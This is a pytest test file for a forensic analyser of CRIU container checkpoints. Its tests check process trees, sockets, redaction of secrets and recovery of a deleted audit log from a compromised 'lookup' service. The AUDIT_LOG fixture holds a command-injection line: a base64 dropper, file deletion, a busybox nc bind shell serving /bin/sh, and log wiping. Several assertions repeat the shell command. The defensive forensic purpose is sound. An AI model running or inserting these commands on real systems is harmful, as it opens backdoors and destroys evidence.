# -*- coding: utf-8 -*-
# Copyright: forensic.checkpoint contributors
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
"""analysis.py end to end on the real fixtures: the expected values are stated here, as read
from the fixtures' CRIU images (crit) and their README."""

from __future__ import absolute_import, division, print_function

__metaclass__ = type

import hashlib
import os

import pytest

from ansible_collections.forensic.checkpoint.plugins.module_utils.analysis.analyze import SECTIONS, analyze

PODMAN_CAPS = ["CAP_CHOWN", "CAP_DAC_OVERRIDE", "CAP_FOWNER", "CAP_FSETID", "CAP_KILL", "CAP_SETGID", "CAP_SETUID",
               "CAP_SETPCAP", "CAP_NET_BIND_SERVICE", "CAP_SYS_CHROOT", "CAP_SETFCAP"]
COUNTERS_ENV = {"PATH": "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "TERM": "xterm",
                "container": "podman", "HOME": "/root", "HOSTNAME": "3517782c6edd"}
AWS_KEY = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"  # the AWS documentation's example key
AWS_KEY_REDACTED = "wJal...sha256:" + hashlib.sha256(AWS_KEY.encode()).hexdigest()
AUDIT_LOG = (b"service started by svc-lookup\nlookup example.org\n"
             b"lookup x; echo IyEvYmluL3NoCmVjaG8gcHduZWQK | base64 -d > /tmp/.x.sh; chmod +x /tmp/.x.sh; "
             b"rm -f /etc/issue; (setsid busybox nc -ll -p 4444 -e /bin/sh </dev/null >/dev/null 2>&1 &)\n"
             b"lookup x; rm -f /var/log/lookup-audit.log\n")

_CACHE = {}


def run(archives, key, **kwargs):
    """analyze() once per fixture and option set (the analysis is read-only, so it can be shared)."""
    cache_key = (key, tuple(sorted(kwargs.items())))
    if cache_key not in _CACHE:
        _CACHE[cache_key] = analyze(archives[key], **kwargs)
    return _CACHE[cache_key]


def by_pid(analysis):
    return dict((proc["pid"], proc) for proc in analysis["processes"])


def fd(proc, number):
    return [item for item in proc["files"] if item["fd"] == number][0]


# -- the counters service ---------------------------------------------------------------------

def test_counters_pid1_is_the_python_service(archives):
    analysis = run(archives, "counters")
    assert analysis["warnings"] == []
    assert analysis["include"] == list(SECTIONS)
    assert [proc["pid"] for proc in analysis["processes"]] == [1]
    proc = analysis["processes"][0]
    expected = {
        "pid": 1, "ppid": 0, "pgid": 1, "sid": 1, "comm": "python3", "threads": [1], "children": [],
        "state": "running", "exit_code": None, "uid": 0, "gid": 0, "euid": 0, "egid": 0,
        "capabilities": PODMAN_CAPS, "seccomp": "filter",
        "argv": ["python3", "/app/counter.py"], "cmdline": "python3 /app/counter.py", "env": COUNTERS_ENV,
        "memory_size": 11747328, "exe": "/usr/bin/python3.11", "exe_deleted": False, "cwd": "/app", "root": "/",
    }
    for field, value in expected.items():
        assert proc[field] == value, field


def test_counters_open_files(archives):
    proc = run(archives, "counters")["processes"][0]
    summary = [(f["fd"], f["type"], f["path"], f["deleted"], f["cloexec"]) for f in proc["files"]]
    assert summary == [
        (0, "REG", "/dev/null", False, False),
        (1, "PIPE", "pipe:[40186]", False, False),
        (2, "PIPE", "pipe:[40187]", False, False),
        (3, "INETSK", "socket:[40243]", False, True),
        ("cwd", "DIR", "/app", False, None),  # directories, not REG (issue 14)
        ("root", "DIR", "/", False, None),
        ("exe", "REG", "/usr/bin/python3.11", False, None),
    ]
    assert fd(proc, 0)["flags"] == ["O_RDWR", "O_LARGEFILE"] and fd(proc, 0)["pos"] == 0
    assert fd(proc, 1)["flags"] == ["O_WRONLY"]
    assert fd(proc, "cwd")["mode"] == "0755"


def test_counters_listening_socket(archives):
    sockets = run(archives, "counters")["processes"][0]["sockets"]
    assert sockets == [{
        "fd": 3, "id": 19, "inode": 40243, "family": "ipv4", "type": "stream", "protocol": "tcp", "state": "LISTEN",
        "local_address": "0.0.0.0", "local_port": 8080, "remote_address": "0.0.0.0", "remote_port": 0,
        "ipv4_mapped": False, "backlog": 5, "send_buf": 16384, "recv_buf": 131072, "queued": None,
        "in_queue": None, "out_queue": None,
    }]


def test_counters_container_mounts_and_rootfs(archives):
    analysis = run(archives, "counters")
    container = analysis["container"]
    assert (container["engine"], container["container"], container["hostname"]) == ("Podman", "counter", "3517782c6edd")
    assert container["annotations"]["io.container.manager"] == "libpod"
    assert container["networks"] == [{"name": "podman", "interfaces": {
        "eth0": {"ip": "10.88.0.8", "gateway": "10.88.0.1", "mac": "9a:f4:62:e6:c8:37"}}}]
    assert container["mac"] == "9a:f4:62:e6:c8:37"
    assert container["stats"]["pages_written"] == 2868
    spec = analysis["mounts"]["spec"]
    assert [m["destination"] for m in spec] == ["/proc", "/dev", "/sys", "/dev/pts", "/dev/mqueue", "/run/.containerenv",
                                                "/etc/hostname", "/etc/resolv.conf", "/etc/hosts", "/dev/shm",
                                                "/sys/fs/cgroup"]
    assert spec[0] == {"destination": "/proc", "type": "proc", "source": "proc", "options": ["nosuid", "noexec", "nodev"]}
    criu = analysis["mounts"]["criu"]
    assert len(criu) == 30
    assert (criu[0]["mountpoint"], criu[0]["fstype"], criu[0]["source"]) == ("/", "overlayfs", "overlay")
    sysfs = [m for m in criu if m["mountpoint"] == "/sys"][0]
    assert sysfs["read_only"] is True and sysfs["parent_id"] == criu[0]["mount_id"]
    assert [m for m in criu if m["mountpoint"] == "/etc/hosts"][0]["external"] == "/etc/hosts"
    assert analysis["mounts"]["bind"] == []
    changed = analysis["rootfs"]["changed"]
    assert len(changed) == 14 and analysis["rootfs"]["deleted"] == []
    assert changed[0] == {"path": "/app/test-file", "type": "file", "size": 9, "mode": "0644", "uid": 0, "gid": 0,
                          "mtime": "2026-11-26T22:20:30Z", "link_target": None}
    assert {"path": "/usr/lib/python3.11/http/__pycache__", "type": "dir"}.items() <= \
        [c for c in changed if c["type"] == "dir"][1].items()
    assert analysis["stats"] == {
        "dump": container["stats"], "processes": 1, "threads": 1, "open_files": 4, "deleted_open_files": 0,
        "sockets": 1, "memory_size": 11747328, "images": 22, "rootfs_changed": 14, "rootfs_deleted": 0,
    }


@pytest.mark.parametrize("key", ["crio", "counters_zst"])
def test_same_process_data_as_counters(archives, key):
    """The CRI-O layout (plain tar, colons in the name) and the zstd form carry the same images."""
    reference, other = run(archives, "counters"), run(archives, key)
    assert other["processes"] == reference["processes"]
    assert other["mounts"]["criu"] == reference["mounts"]["criu"]
    assert other["rootfs"] == reference["rootfs"]
    assert other["warnings"] == []


def test_crio_container_metadata(archives):
    analysis = run(archives, "crio")
    container = analysis["container"]
    assert (container["engine"], container["pod"], container["namespace"], container["ip"]) == \
        ("CRI-O", "counters-7d9f8b6c5d-x2x4q", "demo", "10.130.2.99")
    assert container["annotations"]["openshift.io/scc"] == "restricted-v2"
    assert container["networks"] == [] and container["mac"] is None
    assert analysis["mounts"]["bind"] == [
        {"source": "/var/lib/kubelet/pods/5b0f5a4e-6c1d-4f6e-9a57-2f0d3c9e1b11/etc-hosts", "destination": "/etc/hosts",
         "file_type": "file", "permissions": 420},
        {"source": "/var/lib/kubelet/pods/5b0f5a4e-6c1d-4f6e-9a57-2f0d3c9e1b11/containers/counter/1a2b3c4d",
         "destination": "/dev/termination-log", "file_type": "file", "permissions": 438},
    ]


# -- the compromised lookup service ------------------------------------------------------------

def test_lookup_process_tree(archives):
    analysis = run(archives, "lookup")
    assert analysis["warnings"] == []
    tree = [(p["pid"], p["ppid"], p["comm"], p["cmdline"], p["exe"], p["cwd"], p["state"]) for p in analysis["processes"]]
    assert tree == [
        (1, 0, "python3", "python3 /app/lookup.py", "/usr/bin/python3.11", "/app", "running"),
        (15, 1, "busybox", "busybox nc -ll -p 4444 -e /bin/sh", "/usr/bin/busybox", "/app", "running"),
        (16, 15, "sh", "/bin/sh", "/usr/bin/dash", "/tmp", "running"),
        (20, 16, "busybox", "busybox sleep 3600", "/usr/bin/busybox", "/tmp", "running"),
    ]
    procs = by_pid(analysis)
    assert procs[15]["argv"] == ["busybox", "nc", "-ll", "-p", "4444", "-e", "/bin/sh"]
    assert [p["children"] for p in analysis["processes"]] == [[15], [16], [20], []]
    assert [p["memory_size"] for p in analysis["processes"]] == [11857920, 135168, 122880, 131072]
    assert procs[15]["sid"] == 15 and procs[20]["pgid"] == 15


def test_lookup_shell_connection_has_ipv4_addresses(archives):
    procs = by_pid(run(archives, "lookup"))
    connection = {
        "id": 31, "inode": 58903, "family": "ipv6", "type": "stream", "protocol": "tcp", "state": "ESTABLISHED",
        "local_address": "10.88.0.9", "local_port": 4444, "remote_address": "10.88.0.1", "remote_port": 42698,
        "ipv4_mapped": True, "backlog": None, "in_queue": 0, "out_queue": 0, "send_buf": 3939840, "recv_buf": 131072,
        "queued": None,
    }
    for pid in (16, 20):  # the shell and its sleep child hold the attacker's connection as stdin/stdout
        assert procs[pid]["sockets"] == [dict(connection, fd=0), dict(connection, fd=1)]
    backdoor = procs[15]["sockets"]
    assert [(s["family"], s["local_address"], s["local_port"], s["state"], s["backlog"]) for s in backdoor] == \
        [("ipv6", "::", 4444, "LISTEN", 2)]
    service = procs[1]["sockets"]
    assert [(s["local_address"], s["local_port"], s["state"]) for s in service] == [("0.0.0.0", 8080, "LISTEN")]


def test_lookup_deleted_audit_log_is_recovered(archives, tmp_path):
    analysis = run(archives, "lookup")
    audit = fd(by_pid(analysis)[1], 3)
    assert audit == {
        "fd": 3, "id": 19, "type": "REG", "path": "/var/log/lookup-audit.log", "deleted": True,
        "flags": ["O_WRONLY", "O_APPEND", "O_LARGEFILE"], "cloexec": True, "pos": 272, "mode": "0644",
        "recoverable": True, "size": 272, "stored_size": 272, "sha256": hashlib.sha256(AUDIT_LOG).hexdigest(), "reason": None,
    }
    exported = analyze(archives["lookup"], include=["files"], export_dir=str(tmp_path), export=["recovered"])
    assert exported["exported"] == [{
        "kind": "recovered", "source": "/var/log/lookup-audit.log", "size": 272, "sha256": audit["sha256"],
        "path": str(tmp_path / "recovered" / "var" / "log" / "lookup-audit.log"), "changed": True,
    }]
    with open(exported["exported"][0]["path"], "rb") as handle:
        content = handle.read()
    assert content == AUDIT_LOG
    assert b"busybox nc -ll -p 4444 -e /bin/sh" in content and b"rm -f /var/log/lookup-audit.log" in content
    assert os.stat(exported["exported"][0]["path"]).st_mode & 0o777 == 0o600


def test_lookup_rootfs_changes(archives):
    rootfs = run(archives, "lookup")["rootfs"]
    assert rootfs["deleted"] == ["/etc/issue"]
    dropped = [c for c in rootfs["changed"] if c["path"] == "/tmp/.x.sh"]
    assert dropped == [{"path": "/tmp/.x.sh", "type": "file", "size": 21, "mode": "0755", "uid": 0, "gid": 0,
                        "mtime": "2026-11-26T22:21:17Z", "link_target": None}]


def test_lookup_secrets_redacted_everywhere(archives):
    procs = by_pid(run(archives, "lookup"))
    for pid in (1, 15, 16, 20):
        assert procs[pid]["env"]["AWS_SECRET_ACCESS_KEY"] == AWS_KEY_REDACTED
        assert procs[pid]["env"]["SERVICE_USER"] == "svc-lookup"
    # The attacker copied PID 1's environment into LOOT: the key must not leak through it.
    loot = procs[20]["env"]["LOOT"]
    assert AWS_KEY not in loot and "AWS_SECRET_ACCESS_KEY=" + AWS_KEY_REDACTED in loot


def test_lookup_unredacted_on_request(archives):
    analysis = run(archives, "lookup", redact_secrets=False, include=("processes",))
    assert analysis["redacted"] is False and analysis["include"] == ["processes"]
    procs = by_pid(analysis)
    assert procs[1]["env"]["AWS_SECRET_ACCESS_KEY"] == AWS_KEY
    assert "AWS_SECRET_ACCESS_KEY=%s HOME=/root" % AWS_KEY in procs[20]["env"]["LOOT"]
    assert "files" not in procs[1] and "sockets" not in procs[1]
    assert "mounts" not in analysis and "rootfs" not in analysis and "stats" not in analysis


def test_lookup_later_zstd(archives):
    analysis = run(archives, "lookup_later")
    assert analysis["container"]["archive"]["compression"] == "zstd"
    assert [p["cmdline"] for p in analysis["processes"]] == [
        "python3 /app/lookup.py", "busybox nc -ll -p 4444 -e /bin/sh", "/bin/sh", "busybox sleep 3600"]
    audit = fd(analysis["processes"][0], 3)
    assert (audit["deleted"], audit["recoverable"], audit["size"], audit["pos"]) == (True, True, 402, 402)
    paths = [c["path"] for c in analysis["rootfs"]["changed"]]
    assert paths[:2] == ["/etc/cron.d/persist", "/tmp/.x.sh"] and analysis["rootfs"]["deleted"] == ["/etc/issue"]


# -- CRIU 4.1 images ---------------------------------------------------------------------------

def test_worker_criu41(archives):
    analysis = run(archives, "worker41", redact_secrets=False)
    assert analysis["warnings"] == []
    procs = analysis["processes"]
    assert [(p["pid"], p["ppid"], p["comm"], p["exe"]) for p in procs] == [
        (1, 0, "sh", "/usr/bin/dash"), (6, 1, "python3", "/usr/bin/python3.11"), (7, 6, "sleep", "/usr/bin/sleep")]
    assert procs[0]["argv"][:2] == ["sh", "-c"] and procs[0]["argv"][2].startswith("echo job-1 > /app/jobs; python3 -c")
    assert procs[1]["argv"][:2] == ["python3", "-c"] and 'secret = "OLD_CRIU_SECRET_5521"' in procs[1]["argv"][2]
    assert procs[2]["argv"] == ["sleep", "86400"]
    assert procs[2]["env"]["JOB_QUEUE"] == "/app/jobs" and procs[2]["env"]["LC_CTYPE"] == "C.UTF-8"
    assert [p["memory_size"] for p in procs] == [131072, 4780032, 106496]
    stdio = [(f["fd"], f["path"]) for f in procs[1]["files"][:3]]
    assert stdio == [(0, "/dev/null"), (1, "pipe:[75182]"), (2, "pipe:[75183]")]
    assert analysis["rootfs"]["changed"][0]["path"] == "/app/jobs"


# -- sections ---------------------------------------------------------------------------------

def test_files_without_processes_still_lists_the_tree(archives):
    analysis = analyze(archives["counters"], include=["files"])
    proc = analysis["processes"][0]
    assert proc["comm"] == "python3" and "files" in proc
    assert "argv" not in proc and "env" not in proc and "sockets" not in proc


def test_mounts_only(archives):
    analysis = analyze(archives["lookup"], include=["mounts"])
    assert "processes" not in analysis and "rootfs" not in analysis
    assert analysis["mounts"]["criu"][0]["mountpoint"] == "/"
